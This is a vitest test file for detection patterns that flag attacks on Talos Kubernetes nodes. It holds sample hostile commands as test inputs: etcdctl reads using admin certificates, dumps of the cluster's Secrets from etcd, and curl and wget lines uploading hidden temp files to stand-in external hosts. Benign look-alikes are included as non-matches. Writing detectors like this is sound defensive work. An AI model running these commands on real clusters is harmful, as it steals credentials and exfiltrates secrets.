/**
 * Credential indicators for Talos nodes and etcd (talos-cilium-kpr scenario): the OS's runtime secrets and machine
 * configuration, and Secrets read straight from etcd. Health checks, other etcd keys and look-alike paths stay out.
 */
import { describe, expect, it } from 'vitest';
import { ATTACK_INDICATORS } from '../../src/knowledge/indicators.js';

const indicator = (id: string) => ATTACK_INDICATORS.find((i) => i.id === id)!;

describe('node-credentials: Talos secrets and machine configuration', () => {
  const creds = indicator('node-credentials');
  it.each([
    '/tmp/etcdctl --endpoints=https://172.22.10.12:2379 --cacert=/host/system/secrets/etcd/ca.crt --cert=/host/system/secrets/etcd/admin.crt --key=/host/system/secrets/etcd/admin.key endpoint status',
    'cat /host/system/state/config.yaml',
  ])('matches %s', (text) => expect(creds.pattern.test(text)).toBe(true));
  it.each(['ls /system/config', 'cat /etc/systemd/system/kubelet.service', 'cat /var/system/secrets.txt.bak'])('does not match %s', (text) => expect(creds.pattern.test(text)).toBe(false));
});

describe("etcd-secret-dump: the cluster's Secrets straight from etcd", () => {
  const dump = indicator('etcd-secret-dump');
  it.each([
    'etcdctl --endpoints=https://127.0.0.1:2379 get /registry/secrets --prefix --keys-only',
    "ETCDCTL_API=3 etcdctl get --prefix --keys-only '/registry/secrets/kube-system'",
    'etcdctl get /registry --prefix -w json',
    '/tmp/etcdctl --endpoints=https://172.22.10.12:2379 get /registry/ --prefix --keys-only',
  ])('matches %s', (text) => expect(dump.pattern.test(text)).toBe(true));
  it.each([
    'etcdctl endpoint health --cluster',
    'etcdctl member list -w table',
    'etcdctl get /registry/leases/kube-system/kube-scheduler',
    'etcdctl snapshot save /var/backups/etcd-2027-03-09.db',
    'kubectl get secrets -n plant-mes',
  ])('does not match %s', (text) => expect(dump.pattern.test(text)).toBe(false));
});

describe('staged-file-upload: a hidden file from a temporary directory carried out', () => {
  const upload = indicator('staged-file-upload');
  it.each([
    'curl -sk -T /tmp/.e.tgz https://files.transfer-drop.example/u/8c1f',
    'curl -s -F f=@/dev/shm/.k/out.tar https://203.0.113.9/up',
    'curl --data-binary @/var/tmp/.x https://198.51.100.7/',
    'wget -q --post-file=/tmp/.dump.sql http://203.0.113.5/in',
  ])('matches %s', (text) => expect(upload.pattern.test(text)).toBe(true));
  it.each([
    'curl -T /var/backups/etcd-2027-03-09.db https://backup.internal.example/etcd/',
    'curl -sS -o /tmp/.cache/chart.tgz https://charts.example.com/chart.tgz',
    'curl -F file=@/tmp/report.pdf https://reports.internal.example/upload',
    'tar czf /tmp/.e.tgz /var/lib/etcd',
  ])('does not match %s', (text) => expect(upload.pattern.test(text)).toBe(false));
});
